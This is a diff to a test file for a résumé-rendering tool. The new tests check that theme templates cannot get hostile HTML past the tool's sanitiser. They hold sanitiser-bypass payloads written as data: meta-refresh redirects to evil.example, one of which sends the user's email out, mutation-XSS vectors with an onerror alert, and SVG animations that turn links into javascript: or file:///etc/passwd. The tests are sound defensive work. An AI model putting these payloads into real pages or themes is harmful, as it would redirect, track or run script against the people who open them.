@@ -140,7 +140,8 @@ def test_a_template_that_loops_without_end_stops_at_the_time_budget(runner, tmp_
     folder = _theme(tmp_path, **{"templates__resume__document.html.j2": loop})
     result = _render(runner, folder, tmp_path / "resume.html", env={"JOBKIT_TIME_LIMIT": "2"})
     assert result.exit_code == 1
-    assert "filling the theme's templates took longer than its budget of 2 s" in result.output
+    # Filled inside the child that makes the document, under the document's one time budget.
+    assert "making the document took longer than its budget of 2 s" in result.output
 
 
 # --- what a browser would run or fetch -----------------------------------------------------------------
@@ -238,3 +239,70 @@ def test_watch_renders_again_when_a_theme_file_is_saved(tmp_path):
     folder = _theme(tmp_path, **{"theme.css": "h1 { letter-spacing: 1pt; }\n"})
     sources = render_resume(PROFILE, theme=str(folder), fmt="html").sources
     assert folder / "theme.css" in sources and folder / "theme.yaml" in sources
+
+
+# --- the tree a browser builds ------------------------------------------------------------------------
+
+# Markup that Python's html.parser reads as a comment or text, where a browser (and the HTML5 standard)
+# ends the comment at once and runs what follows.
+PARSER_DIFFERENTIALS = [
+    '<!--><meta http-equiv="refresh" content="0;url=https://evil.example/c?e={{ doc.person.email|urlencode }}">',
+    '<!----!><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<!-- x --!><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<!---><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<![CDATA[ x ]]><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<?php x ?><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '</ x><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<svg><![CDATA[ ]]></svg><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+]
+
+
+@pytest.mark.parametrize("markup", PARSER_DIFFERENTIALS)
+def test_markup_a_browser_reads_as_a_redirect_is_refused_however_it_is_hidden(runner, tmp_path, markup):
+    page = "<!DOCTYPE html><html><head>" + markup + "</head><body><p>{{ doc.person.name }}</p></body></html>\n"
+    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
+    target = tmp_path / "resume.html"
+    result = _render(runner, folder, target)
+    written = target.read_text(encoding="utf-8") if target.exists() else ""
+    # Refused, or written without anything a browser would act on.
+    assert result.exit_code == 1 or all(
+        element.get("http-equiv") in (None, "Content-Security-Policy") for element in tinyhtml5.parse(written).iter()
+    ), written
+    if result.exit_code == 1:
+        assert "the theme's templates write" in result.output
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<select><meta http-equiv="refresh" content="0;url=https://evil.example/"></select>',  # kept by newer parsers
+        '<noscript><p title="</noscript><meta http-equiv=refresh content=0;url=https://evil.example/>"></p></noscript>',
+        '<table><tr><td><math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
+    ],
+)
+def test_what_is_written_is_the_tree_that_was_checked(runner, tmp_path, markup):
+    page = "<!DOCTYPE html><html><head></head><body>" + markup + "<p>{{ doc.person.name }}</p></body></html>\n"
+    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
+    target = tmp_path / "resume.html"
+    result = _render(runner, folder, target)
+    if result.exit_code == 1:
+        assert "the theme's templates write" in result.output
+        return
+    written = target.read_text(encoding="utf-8")
+    assert "http-equiv=refresh" not in written.replace('"', "").lower()
+    assert '<meta http-equiv="refresh' not in written.lower() and "<img src=x" not in written.lower()
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        '<svg><a><set attributeName="href" to="file:///etc/passwd"/><text>x</text></a></svg>',
+        '<svg><a href="#x"><animate attributeName="xlink:href" values="javascript:alert(1)"/><text>x</text></a></svg>',
+    ],
+)
+def test_svg_animation_that_would_change_a_link_after_the_check_is_refused(runner, tmp_path, markup):
+    page = "<!DOCTYPE html><html><head></head><body>" + markup + "<p>{{ doc.person.name }}</p></body></html>\n"
+    folder = _theme(tmp_path, **{"templates__resume__document.html.j2": page})
+    result = _render(runner, folder, tmp_path / "resume.html")
+    assert result.exit_code == 1, result.output
+    assert "the theme's templates write a <" in result.output
